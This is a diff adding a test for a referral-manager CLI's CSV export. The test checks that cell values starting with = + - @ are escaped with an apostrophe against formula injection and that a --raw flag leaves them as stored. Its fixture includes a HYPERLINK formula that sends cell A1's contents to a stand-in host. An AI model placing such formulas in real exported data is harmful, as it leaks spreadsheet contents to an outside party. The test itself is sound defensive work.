@@ -232,3 +232,36 @@ if (!clusterAvailable) console.warn(`test/cli-export.test.ts: skipping export on
     expect(got.every((o) => o.redeemerSatelliteId === 'sat-1')).toBe(true);
   }, 120_000);
 });
+
+// user and campaign ids come from satellites; a marketer opens the CSV in a spreadsheet
+describe('referral-manager export --format csv: values a spreadsheet would run as formulas', () => {
+  let fx: EngineFixture;
+  beforeAll(async () => {
+    fx = await engineFixture({ label: 'cliexportcsv' });
+  });
+  afterAll(async () => {
+    await fx?.close();
+  });
+
+  it("puts a ' before a value starting with = + - @, and --raw writes it as stored", async () => {
+    const users = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+1', '-2+3', '@SUM(A1)', 'plain=ok'];
+    const r = await fx.engine.generate({ owners: users.map((u) => ({ ownerSatelliteId: 'sat-f', ownerUserId: u })), perUser: 1, campaignId: '-camp' });
+    const env = { KEY_PREFIX: fx.prefix, REDIS_URL: SHARED_REDIS_URL };
+    const rowsOf = async (...flags: string[]) => {
+      const out = await runCli(['export', '--format', 'csv', ...flags], env);
+      expect(out.code, out.stderr).toBe(0);
+      const rows = parseCsv(out.stdout);
+      expect(rows[0]).toEqual([...EXPORT_FIELDS]);
+      return new Map(rows.slice(1).map((row) => [row[0]!, row]));
+    };
+    const [safe, raw] = [await rowsOf(), await rowsOf('--raw')];
+    const user = EXPORT_FIELDS.indexOf('ownerUserId');
+    const campaign = EXPORT_FIELDS.indexOf('campaignId');
+    for (const { token, ownerUserId: userId } of r.tokens) {
+      expect(safe.get(token)![user]).toBe(userId === 'plain=ok' ? userId : `'${userId}`);
+      expect(safe.get(token)![campaign]).toBe("'-camp");
+      expect(raw.get(token)![user]).toBe(userId);
+      expect(raw.get(token)![campaign]).toBe('-camp');
+    }
+  });
+});
